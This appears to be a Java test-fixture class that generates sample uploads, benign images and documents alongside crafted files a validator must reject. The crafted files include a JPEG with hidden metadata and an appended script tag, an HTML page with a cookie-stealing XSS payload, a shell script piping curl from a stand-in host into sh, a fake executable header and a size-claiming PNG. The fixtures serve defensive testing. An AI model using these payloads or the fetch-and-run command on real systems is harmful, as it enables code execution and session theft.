package org.gigforge.file;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Small files made on the spot: real pictures and documents, and crafted ones that must be refused. */
final class TestContent {

    private TestContent() {}

    static byte[] png(int width, int height) {
        return write(picture(width, height, BufferedImage.TYPE_INT_ARGB), "png");
    }

    static byte[] jpeg(int width, int height) {
        return write(picture(width, height, BufferedImage.TYPE_INT_RGB), "jpg");
    }

    /** Two halves, red and blue, so orientation and scaling can be seen in the pixels. */
    static BufferedImage picture(int width, int height, int type) {
        var image = new BufferedImage(width, height, type);
        var graphics = image.createGraphics();
        graphics.setColor(Color.RED);
        graphics.fillRect(0, 0, width / 2, height);
        graphics.setColor(Color.BLUE);
        graphics.fillRect(width / 2, 0, width - width / 2, height);
        graphics.dispose();
        return image;
    }

    private static byte[] write(BufferedImage image, String format) {
        var out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, format, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /**
     * A JPEG carrying what re-encoding must remove: an EXIF block (with a description and an orientation), a
     * comment, and bytes appended after the end of the image.
     */
    static byte[] jpegWithHiddenData(int width, int height, int orientation) {
        byte[] plain = jpeg(width, height);
        var out = new ByteArrayOutputStream();
        out.write(plain, 0, 2); // SOI
        byte[] exif = exif("GPS-SECRET-DESCRIPTION", orientation);
        segment(out, 0xE1, exif);
        segment(out, 0xFE, "SECRET-COMMENT".getBytes(StandardCharsets.US_ASCII));
        out.write(plain, 2, plain.length - 2);
        out.writeBytes("APPENDED-PAYLOAD<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    private static void segment(ByteArrayOutputStream out, int marker, byte[] data) {
        out.write(0xFF);
        out.write(marker);
        int length = data.length + 2;
        out.write(length >> 8);
        out.write(length & 0xFF);
        out.writeBytes(data);
    }

    /** "Exif\0\0" and a big-endian TIFF block with one IFD: ImageDescription and Orientation. */
    private static byte[] exif(String description, int orientation) {
        byte[] text = (description + "\0").getBytes(StandardCharsets.US_ASCII);
        int entries = 2;
        int ifdSize = 2 + entries * 12 + 4;
        int dataOffset = 8 + ifdSize;
        var tiff = ByteBuffer.allocate(dataOffset + text.length);
        tiff.put((byte) 'M').put((byte) 'M').putShort((short) 42).putInt(8);
        tiff.putShort((short) entries);
        tiff.putShort((short) 0x010E).putShort((short) 2).putInt(text.length).putInt(dataOffset); // ImageDescription
        tiff.putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0);
        tiff.putInt(0); // no next IFD
        tiff.put(text);
        var out = new ByteArrayOutputStream();
        out.writeBytes("Exif\0\0".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(tiff.array());
        return out.toByteArray();
    }

    /** A tiny PNG whose header promises a picture of the given size (and holds no pixels at all). */
    static byte[] pngClaiming(int width, int height) {
        var out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        var ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 6).put((byte) 0)
                .put((byte) 0).put((byte) 0).array();
        chunk(out, "IHDR", ihdr);
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(typeBytes);
        out.writeBytes(data);
        var crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    static byte[] pdf() {
        return """
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """.getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] docx() {
        return zip(new String[] {
            "[Content_Types].xml",
            "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                    + "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
                    + "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>",
            "word/document.xml", "<w:document/>"});
    }

    static byte[] odt() {
        return zip(new String[] {"mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<office/>"});
    }

    static byte[] zip() {
        return zip(new String[] {"notes/readme.txt", "Hello", "data.csv", "a,b\n1,2\n"});
    }

    private static byte[] zip(String[] namesAndContents) {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                zip.putNextEntry(new ZipEntry(namesAndContents[i]));
                zip.write(namesAndContents[i + 1].getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] text() {
        return "Lebenslauf\nJürgen Groß — Übersetzer\n".getBytes(StandardCharsets.UTF_8);
    }

    static byte[] html() {
        return "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
                .getBytes(StandardCharsets.UTF_8);
    }

    static byte[] shellScript() {
        return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8);
    }

    /** The start of a Windows program: "MZ" and NUL bytes. */
    static byte[] executable() {
        byte[] bytes = new byte[512];
        bytes[0] = 'M';
        bytes[1] = 'Z';
        bytes[60] = (byte) 0x80;
        return bytes;
    }

    /** Text in Latin-1: not valid UTF-8. */
    static byte[] latin1Text() {
        return "Gr\u00fc\u00dfe aus K\u00f6ln".getBytes(StandardCharsets.ISO_8859_1);
    }

    /** An endless stream that counts what was read from it. */
    static final class EndlessStream extends InputStream {
        long read;

        @Override
        public int read() {
            read++;
            return 'a';
        }

        @Override
        public int read(byte[] buffer, int offset, int length) {
            java.util.Arrays.fill(buffer, offset, offset + length, (byte) 'a');
            read += length;
            return length;
        }
    }
}
